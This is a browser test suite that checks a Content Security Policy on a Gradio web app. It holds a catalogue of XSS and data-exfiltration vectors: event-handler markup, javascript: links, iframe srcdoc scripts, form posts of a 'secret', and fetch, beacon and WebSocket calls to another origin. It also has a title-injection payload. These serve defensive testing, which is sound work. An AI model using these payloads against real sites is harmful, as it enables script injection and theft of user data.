"""What a page may load, run and send under its policy: everything that Gradio's components need, and nothing else."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import gradio as gr
import pytest
from playwright.sync_api import Browser, Page, expect

from auth.content_policy import SOURCE_DIRECTIVES
from tests.browser.conftest import Enter, Person
from tests.support.app_server import AppServer
from tests.support.component_blocks import COMPONENTS, component_blocks

# -- Gradio's components ----------------------------------------------------------------------------------------------

DRAWN = {
    "annotatedimage": "img",
    "audio-shown": "button[aria-label=Play]",
    "bar-plot": "canvas, svg.marks",
    "chatbot": ".katex, b:text('a component')",
    "code": ".cm-content:has-text('print')",
    "dataframe": "table >> text=kind",
    "gallery": "img",
    "html": "i:text('as it is')",
    "image": "img",
    "image-editor": "canvas",
    "image-slider": "img",
    "label": "text=cat",
    "line-plot": "canvas, svg.marks",
    "markdown": ".katex",
    "mermaid": "svg[id^=mermaid]",
    "model3d": "canvas",
    "model3d-obj": "canvas",
    "plot-altair": "canvas, svg.marks",
    "plot-matplotlib": "img",
    "plot-plotly": ".js-plotly-plot svg",
    "scatter-plot": "canvas, svg.marks",
    "sketchpad": "canvas",
    "video": "video",
    "video-shown": "video",
}
"""What each of these shows once it has drawn itself."""


@pytest.fixture(scope="module")
def components() -> Iterator[AppServer]:
    with AppServer({}, main_blocks=component_blocks) as server:
        yield server


@pytest.fixture
def shown(enter: Enter, components: AppServer) -> Page:
    """The page with all components. Whatever its policy refuses fails the test, in `enter`."""
    person = enter(components)
    person.enters()
    return person.opens("/gradio/")


def test_every_component_is_drawn_under_the_policy(shown: Page) -> None:
    for name in COMPONENTS:
        if name not in ("browser-state", "timer"):
            shown.locator(f"#{name}").first.scroll_into_view_if_needed()
    for name, what in DRAWN.items():
        expect(shown.locator(f"#{name}").first.locator(what).first).to_be_visible(timeout=30_000)
    shown.wait_for_load_state("networkidle")


def test_scripts_of_the_blocks_author_run(shown: Page) -> None:
    shown.locator("#scripted button").click()
    expect(shown.locator("#scripted output")).to_have_text("clicked")
    expect(shown.locator("html")).to_have_attribute("data-from-head", "yes")


def test_sound_and_pictures_can_be_recorded_uploaded_and_shown(enter: Enter) -> None:
    with AppServer(
        {}, main_blocks=partial(component_blocks, "microphone", "image", "audio-shown", "image-editor")
    ) as server:
        person = enter(server)
        person.context.grant_permissions(["microphone", "camera"])
        person.enters()
        tab = person.opens("/gradio/")
        tab.locator("#microphone").get_by_role("button", name="Record", exact=True).first.click()
        tab.wait_for_timeout(1500)
        tab.locator("#microphone").get_by_role("button", name="Stop", exact=True).first.click()
        expect(tab.locator("#microphone").get_by_label("Play").first).to_be_visible()
        expect(tab.locator("#audio-shown").get_by_text("0:16").first).to_be_visible()
        tab.locator("#image").get_by_label("Remove Image").first.click()
        tab.locator("#image").get_by_label("Capture from camera").first.click()
        tab.locator("#image").get_by_text("Click to Access Webcam").first.click()
        tab.locator("#image").get_by_label("capture photo").first.click()
        expect(tab.locator("#image").locator("img").first).to_be_visible()


# -- what others put into a page --------------------------------------------------------------------------------------


class Elsewhere(ThreadingHTTPServer):
    """Another origin, which remembers what it was asked for and lets everybody in."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Elsewhere)
        self.asked: list[str] = []
        self.url = f"http://127.0.0.1:{self.server_address[1]}"
        threading.Thread(target=self.serve_forever, daemon=True).start()


class _Elsewhere(BaseHTTPRequestHandler):
    server: Elsewhere
    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        self.server.asked.append(self.path)
        body = b"window.hit = true;" if self.path.endswith(".js") else b""
        self.send_response(200)
        kinds = {"js": "text/javascript", "css": "text/css", "es": "text/event-stream"}
        self.send_header("Content-Type", kinds.get(self.path.rpartition(".")[2], "text/html"))
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET  # noqa: N815 - the library's name

    def log_message(self, *_: object) -> None:
        """Nobody reads it."""


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    server = Elsewhere()
    yield server
    server.shutdown()
    server.server_close()


def wall() -> gr.Blocks:
    """Shows everybody what somebody has written, as markup: the mistake that the policy makes up for."""
    with gr.Blocks() as blocks:
        written = gr.Textbox(label="Write")
        gr.Button("Show").click(lambda text: text, written, gr.HTML())
    return blocks


MARKUP = {
    "handler": "<img src=x onerror='window.hit = true'>",
    "handler-of-svg": "<svg><animate onbegin='window.hit = true' attributeName=x dur=1s></svg>",
    "handler-of-details": "<details open ontoggle='window.hit = true'>",
    "link-javascript": "<a id=go href='javascript:window.hit = true'>go</a>",
    "link-javascript-in-svg": "<svg width=50 height=50><a href='javascript:window.hit = true'>"
    "<rect id=go width=50 height=50 /></a></svg>",
    "form-javascript": "<form action='javascript:window.hit = true'><button id=go>go</button></form>",
    "frame-javascript": "<iframe src='javascript:parent.hit = true'></iframe>",
    "frame-srcdoc": "<iframe srcdoc='&lt;script>parent.hit = true&lt;/script>'></iframe>",
    "frame-srcdoc-handler": "<iframe srcdoc='&lt;img src=x onerror=parent.hit=true>'></iframe>",
    "frame-srcdoc-script-elsewhere": "<iframe srcdoc='&lt;script src=ELSEWHERE/a.js>&lt;/script>'></iframe>",
    "frame-data": "<iframe src='data:text/html,<img src=ELSEWHERE/a.png>'></iframe>",
    "frame-elsewhere": "<iframe src='ELSEWHERE/a'></iframe>",
    "object-data": "<object data='data:text/html,<img src=ELSEWHERE/a.png>'></object>",
    "object-elsewhere": "<object data='ELSEWHERE/a'></object>",
    "embed-elsewhere": "<embed src='ELSEWHERE/a'>",
    "form-elsewhere": "<form action='ELSEWHERE/a'><input name=q value=secret><button id=go>go</button></form>",
    "form-post-elsewhere": "<form method=post action='ELSEWHERE/a'><button id=go>go</button></form>",
    "button-elsewhere": "<form><button id=go formaction='ELSEWHERE/a'>go</button></form>",
    "image": "<img src='ELSEWHERE/a.png'>",
    "image-set": "<img srcset='ELSEWHERE/a.png 1x'>",
    "video": "<video src='ELSEWHERE/a.mp4' autoplay></video>",
    "poster": "<video poster='ELSEWHERE/a.png'></video>",
    "audio": "<audio src='ELSEWHERE/a.mp3' autoplay></audio>",
    "style-sheet": "<link rel=stylesheet href='ELSEWHERE/a.css'>",
    "style-import": "<style>@import 'ELSEWHERE/a.css';</style>",
    "style-background": "<div style='background: url(ELSEWHERE/a.png)'>x</div>",
    "style-font": "<b id=q>q</b>"
    "<style>@font-face {font-family: q; src: url(ELSEWHERE/a.woff2)} #q {font-family: q}</style>",
    "svg-image": "<svg><image href='ELSEWHERE/a.png' /></svg>",
}
SCRIPT = {
    "fetch": "fetch('ELSEWHERE/a').catch(() => 0)",
    "fetch-no-cors": "fetch('ELSEWHERE/a', {mode: 'no-cors', method: 'POST', body: 'x'}).catch(() => 0)",
    "beacon": "navigator.sendBeacon('ELSEWHERE/a', 'x')",
    "event-source": "new EventSource('ELSEWHERE/a.es')",
    "web-socket": "new WebSocket('ELSEWHERE/a'.replace('http', 'ws'))",
    "font": "new FontFace('q', 'url(ELSEWHERE/a.woff2)').load().catch(() => 0)",
    "module": "import('ELSEWHERE/a.js').catch(() => 0)",
    "script-elsewhere": "document.head.append("
    "Object.assign(document.createElement('script'), {src: 'ELSEWHERE/a.js'}))",
    "script-data": "document.head.append(Object.assign(document.createElement('script'), "
    "{src: 'data:text/javascript,window.hit=true'}))",
    "script-blob": "document.head.append(Object.assign(document.createElement('script'), "
    "{src: URL.createObjectURL(new Blob(['window.hit=true'], {type: 'text/javascript'}))}))",
    "script-inline": "document.head.append(Object.assign(document.createElement('script'), {text: 'window.hit=true'}))",
    "base": "(b => { b.href = 'ELSEWHERE/'; document.head.prepend(b); new Image().src = 'a.png'; "
    "window.hit = document.baseURI.startsWith('ELSEWHERE') })(document.createElement('base'))",
}


EVERYTHING = "* data: blob: 'unsafe-inline' 'unsafe-eval'"
NO_POLICY = (
    "; ".join(
        f"{name} {'* javascript:' if name in ('base-uri', 'form-action') else EVERYTHING}"
        for name in SOURCE_DIRECTIVES.split()
        if name != "script-src-attr"
    )
    + "; script-src-attr 'unsafe-inline'"
)


def effects(chromium: Browser, elsewhere: Elsewhere, policy: str) -> dict[str, bool]:
    """For each vector whether a script ran that did not come with the page, or anything was asked for elsewhere."""
    found = {}
    with AppServer({}, main_blocks=wall, content_security_policy=policy) as server:
        person = Person(server, chromium.new_context())
        person.enters()
        for name, code in VECTORS.items():
            tab = person.opens("/gradio/")
            expect(tab.get_by_label("Write")).to_be_visible()
            elsewhere.asked.clear()
            vector = code.replace("ELSEWHERE", elsewhere.url)
            if name.startswith("script"):
                tab.evaluate(f"() => {{ {vector} }}")
            else:
                tab.get_by_label("Write").fill(f"<u>written</u>{vector}")
                tab.get_by_role("button", name="Show").click()
                expect(tab.locator("u")).to_be_attached()
                if "id=go" in vector:
                    tab.locator("#go").click(force=True, no_wait_after=True)
            tab.wait_for_timeout(400)
            found[name] = bool(elsewhere.asked) or bool(tab.evaluate("() => !!window.hit"))
        person.context.close()
    return found


VECTORS = {f"markup-{name}": code for name, code in MARKUP.items()} | {
    f"script-{name}": code for name, code in SCRIPT.items()
}


@pytest.fixture(scope="module")
def effects_under_the_policy(chromium: Browser, elsewhere: Elsewhere) -> dict[str, bool]:
    return effects(chromium, elsewhere, "")


@pytest.fixture(scope="module")
def effects_without_one(chromium: Browser, elsewhere: Elsewhere) -> dict[str, bool]:
    """As it would be: each directive is configured to let everything through."""
    return effects(chromium, elsewhere, NO_POLICY)


@pytest.mark.timeout(400)
@pytest.mark.parametrize("name", VECTORS)
def test_what_others_put_into_a_page_runs_nothing_and_sends_nothing_away(
    effects_under_the_policy: dict[str, bool], effects_without_one: dict[str, bool], name: str
) -> None:
    assert not effects_under_the_policy[name]
    assert effects_without_one[name], "this has no effect where nothing is refused, so it shows nothing"


# -- pages of other sites ---------------------------------------------------------------------------------------------

PAGES = ["/login-demo/", "/gradio/", "/docs", "/nowhere"]


@pytest.mark.parametrize("path", PAGES)
def test_another_sites_page_shows_none_of_ours_in_a_frame(enter: Enter, local: AppServer, path: str) -> None:
    person = enter(local, is_attacked=True)
    person.enters()
    tab = person.visits_another_site(f"<iframe src='{local.url}{path}'></iframe>")
    tab.wait_for_load_state("networkidle")
    (frame,) = tab.main_frame.child_frames
    assert frame.url.startswith("chrome-error:")


def test_another_sites_page_that_opens_ours_keeps_no_hold_of_it(enter: Enter, local: AppServer) -> None:
    person = enter(local, is_attacked=True)
    tab = person.visits_another_site("<button>open</button>")
    with person.context.expect_page() as opened:
        tab.evaluate(f"() => {{ window.ours = window.open('{local.url}/login-demo/') }}")
    expect(opened.value.get_by_role("heading", name="Sign in")).to_be_visible()
    assert tab.evaluate("() => window.ours.closed")
    assert opened.value.evaluate("() => window.opener") is None


# -- the page that shows the API --------------------------------------------------------------------------------------


def test_a_title_with_markup_is_text_on_every_page(enter: Enter) -> None:
    title = "</title><script>hit = 1</script><img src=x onerror='hit = 1'>"
    with AppServer({}, app_title=title) as server:
        person = enter(server)
        person.enters()
        for path in ("/docs", "/login-demo/", "/gradio/", "/nowhere"):
            tab = person.opens(path)
            tab.wait_for_load_state("networkidle")
            assert title in tab.title()
            assert not tab.evaluate("() => window.hit")
        expect(person.opens("/docs").get_by_text("/user/me")).to_be_visible()
